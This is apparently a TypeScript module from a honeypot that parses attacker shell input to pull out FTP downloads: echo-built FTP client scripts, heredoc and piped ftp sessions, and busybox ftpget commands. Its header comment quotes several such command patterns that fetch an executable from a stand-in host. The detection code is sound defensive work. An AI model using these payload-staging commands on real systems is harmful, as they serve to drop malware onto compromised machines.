// What ftp-download reads: busybox ftpget lines (at the end), and scripted
// FTP dialogues: the lines an attack feeds to an FTP client, read
// the way honeytrap's ftpDownload reads them (find "open HOST [PORT]", then
// the user, the password and the file of "get"), generalised to the forms
// seen in the wild:
//
//   echo open 203.0.113.5 21 > o & echo user u p >> o & echo binary >> o &
//     echo get x.exe >> o & echo bye >> o & ftp -n -s:o        (Windows, -n: "user")
//   echo open 203.0.113.5 > o & echo u>> o & echo p>> o & echo get x.exe>> o & ftp -s:o
//                                               (Windows autologin: user, password lines)
//   ftp -n 203.0.113.5 <<EOF / user u p / get x / bye / EOF    (a heredoc)
//   (echo user u p; echo get x) | ftp -n 203.0.113.5
//
// Each `echo` contributes its text up to the redirection; lines typed into a
// shell (heredoc bodies) that are FTP client commands count too. A session
// starts at "open HOST [PORT]" or at an `ftp HOST [PORT]` command; every
// "get"/"recv" in it is one download.
import {
  optionValue,
  parseOptions,
  plausibleHost,
  portNumber,
  shellCommands,
} from '@honeytrap/sdk';

export interface FtpDownload {
  host: string;
  port?: number;
  user?: string;
  pass?: string;
  /** The remote path (after any "cd"). */
  file: string;
  /** Where the session (or the ftpget command) starts in the text. */
  offset: number;
  /** ftp-script, ftpget or busybox ftpget. */
  via: string;
}

/** FTP client commands a script uses that neither log in nor fetch. */
const OTHER_COMMANDS = new Set([
  'binary',
  'bin',
  'ascii',
  'type',
  'hash',
  'prompt',
  'lcd',
  'verbose',
  'passive',
  'quote',
  'literal',
  'ls',
  'dir',
  'put',
  'send',
  'mput',
  'mget',
  'delete',
  'pwd',
  'status',
]);
/** Commands that end the session: what follows is another one. */
const END_COMMANDS = new Set(['bye', 'quit', 'close', 'disconnect']);
const LOGIN_OR_FETCH = new Set(['open', 'o', 'user', 'pass', 'get', 'recv', 'cd', ...END_COMMANDS]);

interface Session {
  host?: string;
  port?: number;
  user?: string;
  pass?: string;
  cwd: string;
  offset: number;
  /** Each get, with the login at that point. */
  files: { file: string; user?: string; pass?: string }[];
  /** Autologin (no -n): the next plain lines are the user name, then the password. */
  expect?: 'user' | 'pass';
}

/** One line of the script, and where it was written. */
interface Line {
  words: string[];
  offset: number;
  /** The line came from `echo`, so a plain word is meant for the client (a user name, a password). */
  echoed: boolean;
}

/** The script lines and the ftp commands of `text`, in order. */
function scriptEvents(
  text: string,
): ({ line: Line } | { ftp: { host: string; port?: number; n: boolean; offset: number } })[] {
  const events: (
    { line: Line } | { ftp: { host: string; port?: number; n: boolean; offset: number } }
  )[] = [];
  for (const c of shellCommands(text)) {
    if (c.program === 'echo') {
      // the echoed text as written, up to the redirection: "21>>o" is "21" then >>o
      const body = c.text
        .replace(/^@?echo/i, '')
        .split(/[<>]/, 1)[0]
        .replace(/["']/g, '')
        .trim();
      if (body)
        events.push({ line: { words: body.split(/[ \t]+/), offset: c.offset, echoed: true } });
    } else if (c.program === 'ftp' || c.program === 'ftp.exe') {
      const { options, operands } = parseOptions(
        c.args.filter((a) => !/^-s:/i.test(a)),
        { short: 'oPT' },
      );
      const host = operands[0]?.replace(/^.*@/, '');
      const port = portNumber(operands[1]);
      if (host && plausibleHost(host))
        events.push({
          ftp: {
            host,
            ...(port === undefined ? {} : { port }),
            n: options.has('n'),
            offset: c.offset,
          },
        });
    } else if (LOGIN_OR_FETCH.has(c.program) || OTHER_COMMANDS.has(c.program)) {
      events.push({ line: { words: [c.program, ...c.args], offset: c.offset, echoed: false } });
    }
  }
  return events;
}

/** The downloads of the scripted FTP dialogues in `text`. */
export function ftpScripts(text: string): FtpDownload[] {
  // as honeytrap: no "ftp" in the text, no dialogue (the script is always handed to ftp)
  if (!/ftp/i.test(text)) return [];
  const sessions: Session[] = [];
  let cur: Session | undefined;
  const start = (offset: number, host?: string, port?: number): Session => {
    const s: Session = {
      cwd: '',
      offset,
      files: [],
      ...(host ? { host } : {}),
      ...(port ? { port } : {}),
    };
    sessions.push(s);
    return s;
  };
  for (const e of scriptEvents(text)) {
    if ('ftp' in e) {
      // `... | ftp -n HOST`: the host of the lines echoed before it
      const last = sessions.at(-1);
      if (last && last.host === undefined) {
        last.host = e.ftp.host;
        if (e.ftp.port !== undefined) last.port = e.ftp.port;
      } else {
        cur = start(e.ftp.offset, e.ftp.host, e.ftp.port);
        if (!e.ftp.n) cur.expect = 'user';
      }
      continue;
    }
    const [first, ...rest] = e.line.words;
    const cmd = first.toLowerCase();
    if (cmd === 'open' || cmd === 'o') {
      const host = rest[0];
      if (!host || !plausibleHost(host)) continue;
      cur = start(e.line.offset, host, portNumber(rest[1]));
      cur.expect = 'user';
    } else if (cmd === 'user') {
      cur ??= start(e.line.offset);
      if (rest[0] !== undefined) cur.user = rest[0];
      if (rest[1] !== undefined) cur.pass = rest[1];
      cur.expect = rest[1] === undefined ? 'pass' : undefined;
    } else if (cmd === 'pass' && cur) {
      if (rest[0] !== undefined) cur.pass = rest[0];
      cur.expect = undefined;
    } else if ((cmd === 'get' || cmd === 'recv') && cur && rest[0]) {
      cur.files.push({
        file: rest[0].startsWith('/') || !cur.cwd ? rest[0] : `${cur.cwd}/${rest[0]}`,
        ...(cur.user === undefined ? {} : { user: cur.user }),
        ...(cur.pass === undefined ? {} : { pass: cur.pass }),
      });
      cur.expect = undefined;
    } else if (cmd === 'cd' && cur && rest[0]) {
      cur.cwd = rest[0].startsWith('/') || !cur.cwd ? rest[0] : `${cur.cwd}/${rest[0]}`;
      cur.expect = undefined;
    } else if (END_COMMANDS.has(cmd)) {
      cur = undefined;
    } else if (OTHER_COMMANDS.has(cmd)) {
      if (cur) cur.expect = undefined;
    } else if (cur?.expect && e.line.echoed) {
      // autologin: the client asks for the user name, then the password
      if (cur.expect === 'user') {
        cur.user = first!;
        cur.expect = 'pass';
      } else {
        cur.pass = first!;
        cur.expect = undefined;
      }
    }
  }
  const out: FtpDownload[] = [];
  for (const s of sessions) {
    if (!s.host) continue;
    for (const f of s.files)
      out.push({
        host: s.host,
        offset: s.offset,
        via: 'ftp-script',
        ...(s.port === undefined ? {} : { port: s.port }),
        ...f,
      });
  }
  return out;
}

/** busybox ftpget [-c] [-v] [-u USER] [-p PASS] [-P PORT] HOST [LOCAL] REMOTE */
export function ftpgets(text: string): FtpDownload[] {
  const out: FtpDownload[] = [];
  for (const c of shellCommands(text, ['ftpget'])) {
    if (c.program !== 'ftpget') continue;
    const { options, operands } = parseOptions(c.args, {
      short: 'upP',
      long: ['username', 'password', 'port'],
    });
    const [host, local, remote] = operands;
    const file = remote ?? local;
    if (!host || !file || !plausibleHost(host)) continue;
    const user = optionValue(options, 'u', 'username');
    const pass = optionValue(options, 'p', 'password');
    const port = portNumber(optionValue(options, 'P', 'port'));
    out.push({
      host,
      file,
      offset: c.offset,
      via: c.busybox ? 'busybox ftpget' : 'ftpget',
      ...(port === undefined ? {} : { port }),
      ...(user === undefined ? {} : { user }),
      ...(pass === undefined ? {} : { pass }),
    });
  }
  return out;
}
